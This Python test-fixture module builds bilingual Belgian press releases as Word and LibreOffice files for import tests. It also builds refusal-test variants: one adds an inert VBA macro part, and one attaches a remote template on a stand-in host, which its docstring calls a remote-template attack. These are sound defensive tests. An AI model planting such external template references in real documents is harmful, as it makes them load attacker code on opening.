"""Press releases the import tests write themselves, in Word (python-docx) and LibreOffice
(odfdo), in the shape a Belgian federal public service sends them: a title, a bold lead
(place, date, the news), a body with bullets, a quote, a "Rethink network" subheading, a link, a
numbered list, a photo with its description, and a contact block of three people.

`EXPECTED` holds what the import must make of them, field by field, per language.
"""

from __future__ import annotations

import io
import re
import zipfile
from dataclasses import dataclass, field
from typing import Any

from PIL import Image as PillowImage


def photo(colour: tuple[int, int, int] = (30, 90, 160)) -> bytes:
    """The minister's photo: a small PNG, the same bytes every call."""
    image = PillowImage.new("RGB", (320, 200), colour)
    for x in range(0, 320, 20):
        image.paste((200, 60, 40), (x, 0, x + 5, 200))
    out = io.BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


@dataclass
class Person:
    name: str
    function: str
    phone_label: str
    phone: str
    mobile_label: str
    mobile: str
    email_label: str
    email: str

    def lines(self) -> list[str]:
        lines = [self.name, self.function]
        if self.phone:
            lines.append(f"{self.phone_label} {self.phone}")
        if self.mobile:
            lines.append(f"{self.mobile_label} {self.mobile}")
        lines.append(f"{self.email_label}{self.email}")
        return lines


@dataclass
class Release:
    """One language's press release, as the author wrote it."""

    title: str
    lead: str
    intro: tuple[str, str, str, str, str, str]  # before, bold, middle, italic, link text, after
    link: str
    bullets: list[str]
    quote: str
    quoted_paragraph: str
    subheading: str
    network: tuple[str, str, str]  # before, italic, after
    steps: list[str]
    alt: str
    contact_label: str
    people: list[Person] = field(default_factory=list)


NL = Release(
    title="Jaarverslag 2025: 4.200 Belgen in nood geholpen",
    lead="Brussel, 20 april 2026 – De FOD Buitenlandse Zaken hielp vorig jaar 4.200 Belgen in nood in het "
         "buitenland, 12 procent meer dan in 2024.",
    intro=("Het jaarverslag toont ", "een recordjaar", " voor de consulaire dienst, met een ", "drukke",
           "volledige jaarverslag", " zomer."),
    link="https://diplomatie.example.be/jaarverslag-2025",
    bullets=["1.350 dossiers van consulaire bijstand", "2.850 noodpaspoorten", "48 evacuaties"],
    quote="“Achter elk dossier zit een mens die ons nodig had”, zegt minister Janssens.",
    quoted_paragraph="“We blijven investeren in onze posten”, aldus de voorzitter van het directiecomité.",
    subheading="Rethink network: een nieuw postennetwerk",
    network=("Met ", "Rethink network", " herschikt de FOD twaalf posten in drie stappen:"),
    steps=["evaluatie van elke post", "overleg met de partnerlanden", "uitvoering tegen 2028"],
    alt="Minister Janssens stelt het jaarverslag voor aan de pers",
    contact_label="Perscontact",
    people=[
        Person("Anouk Peeters", "Woordvoerder", "Tel.", "+32 2 501 81 11", "Gsm", "+32 477 12 34 56", "",
               "anouk.peeters@diplomatie.example.be"),
        Person("Pieter De Smet", "Woordvoerder van de minister", "Tel.", "", "Gsm", "+32 478 98 76 54",
               "E-mail: ", "pieter.desmet@diplomatie.example.be"),
        Person("Els Wouters", "Persattaché", "Tel.", "+32 2 501 82 22", "Gsm", "", "",
               "els.wouters@diplomatie.example.be"),
    ],
)

FR = Release(
    title="Rapport annuel 2025 : 4 200 Belges en détresse aidés",
    lead="Bruxelles, le 20 avril 2026 – Le SPF Affaires étrangères a aidé l'an dernier 4 200 Belges en "
         "détresse à l'étranger, 12 % de plus qu'en 2024.",
    intro=("Le rapport annuel montre ", "une année record", " pour le service consulaire, avec un été ", "chargé",
           "rapport annuel complet", "."),
    link="https://diplomatie.example.be/rapport-annuel-2025",
    bullets=["1 350 dossiers d'assistance consulaire", "2 850 passeports d'urgence", "48 évacuations"],
    quote="« Derrière chaque dossier, il y a une personne qui avait besoin de nous », déclare la ministre Janssens.",
    quoted_paragraph="« Nous continuons d'investir dans nos postes », affirme la présidente du comité de direction.",
    subheading="Rethink network : un nouveau réseau de postes",
    network=("Avec ", "Rethink network", ", le SPF réorganise douze postes en trois étapes :"),
    steps=["évaluation de chaque poste", "concertation avec les pays partenaires", "mise en œuvre d'ici 2028"],
    alt="La ministre Janssens présente le rapport annuel à la presse",
    contact_label="Contact presse",
    people=[
        Person("Anouk Peeters", "Porte-parole", "Tél.", "+32 2 501 81 11", "Portable", "+32 477 12 34 56", "",
               "anouk.peeters@diplomatie.example.be"),
        Person("Pieter De Smet", "Porte-parole du ministre", "Tél.", "", "Mobile", "+32 478 98 76 54",
               "E-mail : ", "pieter.desmet@diplomatie.example.be"),
        Person("Els Wouters", "Attachée de presse", "Tél.", "+32 2 501 82 22", "Portable", "", "",
               "els.wouters@diplomatie.example.be"),
    ],
)


def expected_body(release: Release) -> str:
    """The Markdown the import must make of the body."""
    before, bold, middle, italic, label, after = release.intro
    bullets = "\n".join(f"- {item}" for item in release.bullets)
    steps = "\n".join(f"{number}. {item}" for number, item in enumerate(release.steps, start=1))
    n_before, n_italic, n_after = release.network
    return (f"{before}**{bold}**{middle}*{italic}* ([{label}]({release.link})){after}\n\n"
            f"{bullets}\n\n"
            f"> {release.quote}\n\n"
            f"{release.quoted_paragraph}\n\n"
            f"## {release.subheading}\n\n"
            f"{n_before}*{n_italic}*{n_after}\n\n"
            f"{steps}")


def expected_contacts(release: Release, language: str) -> list[dict[str, Any]]:
    """The revision's contact details, field by field, as a document in `language` gives them."""
    return [{"email": person.email, "name": person.name, "function": {language: person.function},
             "phone": person.phone, "mobile": person.mobile} for person in release.people]


# --- Word ------------------------------------------------------------------------------------


def _hyperlink(paragraph: Any, text: str, url: str) -> None:
    from docx.opc.constants import RELATIONSHIP_TYPE
    from docx.oxml import OxmlElement
    from docx.oxml.ns import qn

    relationship = paragraph.part.relate_to(url, RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    link = OxmlElement("w:hyperlink")
    link.set(qn("r:id"), relationship)
    run = OxmlElement("w:r")
    properties = OxmlElement("w:rPr")
    style = OxmlElement("w:rStyle")
    style.set(qn("w:val"), "Hyperlink")
    properties.append(style)
    run.append(properties)
    text_element = OxmlElement("w:t")
    text_element.text = text
    run.append(text_element)
    link.append(run)
    paragraph._p.append(link)


def docx(release: Release = NL, *, title_style: str = "heading", picture: bytes | None = None,
         alt: str | None = None, table: bool = False, contact_heading: bool = False,
         line_breaks: bool = False, language: str = "", comment: bool = False) -> bytes:
    """The release as a Word document.

    `title_style` "title" uses Word's Title style (else Heading 1); `contact_heading` makes the
    contact label a Heading 2 (else a bold line); `line_breaks` writes each person as one
    paragraph with line breaks (else a paragraph per line); `language` sets the document's
    language property.
    """
    import docx as python_docx

    document = python_docx.Document()
    if language:
        document.core_properties.language = language
    document.add_heading(release.title, 0 if title_style == "title" else 1)
    document.add_paragraph().add_run(release.lead).bold = True
    paragraph = document.add_paragraph()
    before, bold, middle, italic, label, after = release.intro
    paragraph.add_run(before)
    paragraph.add_run(bold).bold = True
    paragraph.add_run(middle)
    paragraph.add_run(italic).italic = True
    paragraph.add_run(" (")
    _hyperlink(paragraph, label, release.link)
    paragraph.add_run(")" + after)
    if comment:
        document.add_comment(paragraph.runs[:1], text="Cijfers nakijken", author="Redactie")
    for item in release.bullets:
        document.add_paragraph(item, style="List Bullet")
    document.add_paragraph(release.quote, style="Quote")
    document.add_paragraph(release.quoted_paragraph)
    document.add_heading(release.subheading, 2)
    paragraph = document.add_paragraph()
    n_before, n_italic, n_after = release.network
    paragraph.add_run(n_before)
    paragraph.add_run(n_italic).italic = True
    paragraph.add_run(n_after)
    for item in release.steps:
        document.add_paragraph(item, style="List Number")
    if table:
        grid = document.add_table(rows=2, cols=2)
        grid.cell(0, 0).text, grid.cell(0, 1).text = "Jaar", "Dossiers"
        grid.cell(1, 0).text, grid.cell(1, 1).text = "2025", "4.200"
    if picture is not None:
        document.add_picture(io.BytesIO(picture))
        frame = document.paragraphs[-1]._p.xpath(".//wp:docPr")[0]
        frame.set("descr", release.alt if alt is None else alt)
    if contact_heading:
        document.add_heading(release.contact_label, 2)
    else:
        document.add_paragraph().add_run(release.contact_label).bold = True
    for person in release.people:
        if line_breaks:
            document.add_paragraph("\n".join(person.lines()))
        else:
            for line in person.lines():
                document.add_paragraph(line)
        document.add_paragraph("")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _repacked(data: bytes, change: dict[str, bytes], add: dict[str, bytes]) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for entry in source.infolist():
            target.writestr(entry, change.get(entry.filename, source.read(entry.filename)))
        for name, content in add.items():
            target.writestr(name, content)
    return out.getvalue()


def with_macro(data: bytes) -> bytes:
    """The document as Word saves it with a VBA project: vbaProject.bin, its relationship and
    its content type."""
    archive = zipfile.ZipFile(io.BytesIO(data))
    types = archive.read("[Content_Types].xml").decode()
    types = types.replace("</Types>", '<Override PartName="/word/vbaProject.bin" '
                                      'ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    rels = archive.read("word/_rels/document.xml.rels").decode()
    rels = rels.replace("</Relationships>", '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/'
                                            '2006/relationships/vbaProject" Target="vbaProject.bin"/>'
                                            "</Relationships>")
    return _repacked(data, {"[Content_Types].xml": types.encode(), "word/_rels/document.xml.rels": rels.encode()},
                     {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504})


def with_external_template(data: bytes) -> bytes:
    """The document attached to a template on a server (attachedTemplate, TargetMode External):
    Word fetches it on opening, the way remote-template attacks load their code."""
    archive = zipfile.ZipFile(io.BytesIO(data))
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'attachedTemplate" Target="https://templates.example.net/persbericht.dotm" TargetMode="External"/>'
            "</Relationships>")
    settings = archive.read("word/settings.xml").decode()
    settings = re.sub(r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rId1"/>', settings, count=1)
    if 'xmlns:r="' not in settings.split(">", 2)[1]:
        settings = settings.replace("<w:settings ", '<w:settings xmlns:r="http://schemas.openxmlformats.org/'
                                                    'officeDocument/2006/relationships" ', 1)
    return _repacked(data, {"word/settings.xml": settings.encode()}, {"word/_rels/settings.xml.rels": rels.encode()})


# --- LibreOffice -----------------------------------------------------------------------------


def odt(release: Release = NL, *, picture: bytes | None = None, alt: str | None = None, table: bool = False,
        language: str = "") -> bytes:
    """The same release as a LibreOffice document, built with odfdo: the title in the Title
    style, bold and italic by automatic text styles, the quote in "Quotations", the lists in
    LibreOffice's "List 1" (bullets) and "Numbering 123" styles, the contact block with line
    breaks."""
    from odfdo import (
        Document,
        Frame,
        Header,
        LineBreak,
        Link,
        List,
        ListItem,
        Paragraph,
        Span,
        Style,
        Table,
    )

    document = Document("text")
    body = document.body
    body.clear()
    if language:
        document.meta.language = language
    document.insert_style(Style("paragraph", name="Title", display_name="Title"))
    document.insert_style(Style("paragraph", name="Quotations", display_name="Quotations"))
    document.insert_style(Style("text", name="T1", bold=True), automatic=True)
    document.insert_style(Style("text", name="T2", italic=True), automatic=True)
    document.insert_style(Style("paragraph", name="P1", parent_style="Standard", bold=True, area="text"),
                          automatic=True)

    def styled(parts: list[tuple[str, str]]) -> Paragraph:
        paragraph = Paragraph("")
        for text, style in parts:
            if style == "link":
                paragraph.append(Link(release.link, text=text))
            elif style:
                paragraph.append(Span(text, style=style))
            else:
                paragraph.append(text)
        return paragraph

    body.append(Paragraph(release.title, style="Title"))
    body.append(Paragraph(release.lead, style="P1"))
    before, bold, middle, italic, label, after = release.intro
    body.append(styled([(before, ""), (bold, "T1"), (middle, ""), (italic, "T2"), (" (", ""), (label, "link"),
                        (")" + after, "")]))
    bullets = List(style="List_20_1")
    for item in release.bullets:
        bullets.append(ListItem(item))
    body.append(bullets)
    body.append(Paragraph(release.quote, style="Quotations"))
    body.append(Paragraph(release.quoted_paragraph))
    body.append(Header(2, release.subheading))
    n_before, n_italic, n_after = release.network
    body.append(styled([(n_before, ""), (n_italic, "T2"), (n_after, "")]))
    steps = List(style="Numbering_20_1")
    for item in release.steps:
        steps.append(ListItem(item))
    body.append(steps)
    if table:
        grid = Table("Cijfers", width=2, height=2)
        grid.set_value("A1", "Jaar")
        grid.set_value("B1", "Dossiers")
        body.append(grid)
    if picture is not None:
        href = document.add_file(io.BytesIO(picture))
        frame = Frame.image_frame(href, size=("8cm", "5cm"), anchor_type="as-char")
        frame.svg_description = release.alt if alt is None else alt
        holder = Paragraph("")
        holder.append(frame)
        body.append(holder)
    body.append(styled([(release.contact_label, "T1")]))
    for person in release.people:
        paragraph = Paragraph("")
        for number, line in enumerate(person.lines()):
            if number:
                paragraph.append(LineBreak())
            paragraph.append(line)
        body.append(paragraph)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def odt_with(data: bytes, *, add: dict[str, bytes] | None = None, content: tuple[str, str] | None = None,
             manifest: tuple[str, str] | None = None, meta: tuple[str, str] | None = None) -> bytes:
    """An .odt changed for the refusal tests: parts added, or a text replaced in content.xml,
    META-INF/manifest.xml or meta.xml."""
    archive = zipfile.ZipFile(io.BytesIO(data))
    change: dict[str, bytes] = {}
    for part, replacement in (("content.xml", content), ("META-INF/manifest.xml", manifest), ("meta.xml", meta)):
        if replacement is not None:
            text = archive.read(part).decode()
            assert replacement[0] in text, (part, replacement[0])
            change[part] = text.replace(replacement[0], replacement[1], 1).encode()
    return _repacked(data, change, add or {})
